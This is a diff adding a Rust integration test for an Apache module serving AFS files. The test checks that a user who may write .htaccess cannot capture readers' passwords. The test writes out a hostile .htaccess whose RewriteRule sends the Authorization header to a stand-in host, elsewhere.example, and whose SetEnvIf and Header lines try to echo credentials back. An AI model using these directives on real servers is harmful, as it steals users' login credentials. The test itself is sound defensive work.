@@ -4,12 +4,13 @@
 mod common;
 
 use common::{
-    answer_limit, broker_of, first, get_as, password, raw_authorization, start, start_with, timed, world,
+    answer_limit, ask, broker_of, first, get_as, password, raw_authorization, start, start_with, timed, world,
 };
 use integration::content::{owner_file, owner_line};
 use integration::http::{Connection, Request, base64};
 use integration::httpd::{Httpd, Mpm};
 use integration::process::signal_pid;
+use integration::seen;
 use integration::wait;
 use integration::world::{FIRST_CELL, World};
 use rustix::process::Signal;
@@ -459,4 +460,41 @@ fn one_level_counts_for_the_lines_of_module_and_broker_unless_httpd_has_one_for_
     ] {
         assert_eq!(logged(log_level, more), shown, "LogLevel {log_level}, {more}");
     }
+}
+
+#[test]
+#[ignore = "needs a world: run by cargo xtask test"]
+fn whoever_may_write_htaccess_learns_no_password_of_who_reads_his_pages() {
+    let world = world();
+    let dir = format!("write/anybody/sub/steals-{}", std::process::id());
+    let more = format!(
+        "<Location /afs/{FIRST_CELL}/write>\nDav afs\n</Location>\n\
+         <Directory /afs/{FIRST_CELL}/write/anybody>\nAllowOverride All\nOptions +FollowSymLinks\n</Directory>\n"
+    );
+    let httpd = start_with(&world, &more, |mut o| {
+        o.modules.extend(["dav", "rewrite", "headers", "setenvif"].map(str::to_owned));
+        o
+    });
+    let at = |name: &str| first(&format!("{dir}/{name}"));
+    assert_eq!(ask(&world, &httpd, "bob", Request::new("MKCOL", &first(&dir))).status, 201);
+    assert_eq!(ask(&world, &httpd, "bob", Request::new("PUT", &at("page.html")).body(b"<p>")).status, 201);
+    // The header of the mark shows that each of these ways works.
+    let htaccess = "RewriteEngine On\n\
+                    RewriteRule ^go$ http://elsewhere.example/%{HTTP:X-Mark}/%{HTTP:Authorization} [R,L]\n\
+                    SetEnvIf X-Mark (.+) MARK=$1\nSetEnvIf Authorization (.+) STOLEN=$1\n\
+                    Header always set X-By-Env \"%{MARK}e %{STOLEN}e\"\n\
+                    Header always set X-By-Expr \"expr=%{req:X-Mark} %{req:Authorization}\"\n\
+                    CGIPassAuth On\n";
+    seen::change(FIRST_CELL, &format!("{dir}/.htaccess"), htaccess).unwrap();
+    let secret = base64(format!("alice:{}", password(world.cell(FIRST_CELL).unwrap(), "alice")).as_bytes());
+    for name in ["go", "page.html", "absent"] {
+        let request = Request::get(&at(name)).header("X-Mark", "a-mark");
+        let r = ask(&world, &httpd, "alice", request);
+        let head = format!("{:?}", r.headers);
+        assert_eq!(r.header("X-By-Env").map(str::trim_end), Some("a-mark (null)"), "{name}: {head}");
+        assert_eq!(r.header("X-By-Expr").map(str::trim_end), Some("a-mark"), "{name}: {head}");
+        assert_eq!(r.header("Location").is_some_and(|to| to.contains("/a-mark/")), name == "go", "{head}");
+        assert!(!head.contains(&secret) && !head.contains("Basic"), "{name}: {head}");
+    }
+    httpd.stop(&[]).unwrap();
 }
